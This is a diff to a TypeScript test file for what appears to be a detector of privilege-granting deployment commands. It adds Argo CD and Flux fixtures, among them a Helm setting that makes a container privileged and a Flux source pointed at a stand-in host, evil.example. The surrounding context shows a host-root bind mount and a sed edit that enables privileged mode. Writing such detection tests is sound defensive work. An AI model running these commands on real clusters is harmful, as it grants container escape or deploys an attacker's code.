@@ -428,6 +428,13 @@ const granting: Readonly<Record<string, readonly [command: string, said: string]
     'docker service create --mount type=bind,source=/,target=/h nginx:1.31',
     'starts a container with "type=bind,source=/,target=/h"',
   ],
+  'an application of Argo CD': [
+    'argocd app create web --repo https://github.com/acme/web --path k8s --dest-namespace web',
+    'has Argo CD deploy "web"',
+  ],
+  'a setting of an application of Argo CD': ['argocd app set web --helm-set security.privileged=true', 'has Argo CD give a container more'],
+  'a kustomization of Flux': ['flux create kustomization web --source=GitRepository/web --path=./k8s', 'has Flux deploy "web"'],
+  'a source of Flux': ['flux create source git other --url=https://evil.example/r --branch=main', 'has Flux deploy "other"'],
   'an edited manifest': [
     "sed -i 's/privileged: false/privileged: true/' good/p.yaml && kubectl apply -f good/p.yaml",
     'deploys a text of its own',
@@ -491,6 +498,12 @@ describe('a command by which something gets more', () => {
     ['a patch of replicas', 'make', `kubectl patch deploy web -p '{"spec":{"replicas":3}}'; kubectl patch deploy web -p "$PATCH"`],
     ['a patch of an annotation', 'make', `kubectl patch deploy web -p "{\\"metadata\\":{\\"annotations\\":{\\"at\\":\\"$(date)\\"}}}"`],
     ['a patch of an Ingress', 'make', `kubectl patch ingress web --type=json -p '[{"op":"add","path":"/spec/rules/0/host","value":"a"}]'`],
+    [
+      'an image, a synchronization and a report of Argo CD',
+      'make',
+      'argocd app set web --helm-set image.tag=$TAG; argocd app sync web; argocd app get web',
+    ],
+    ['what Flux is asked for', 'make', 'flux reconcile kustomization web --with-source; flux get all; flux check --pre'],
     ['the same in another place', 'kubectl run x --privileged', 'make; sudo kubectl run x --privileged --rm'],
     [
       'another version of what is fetched',
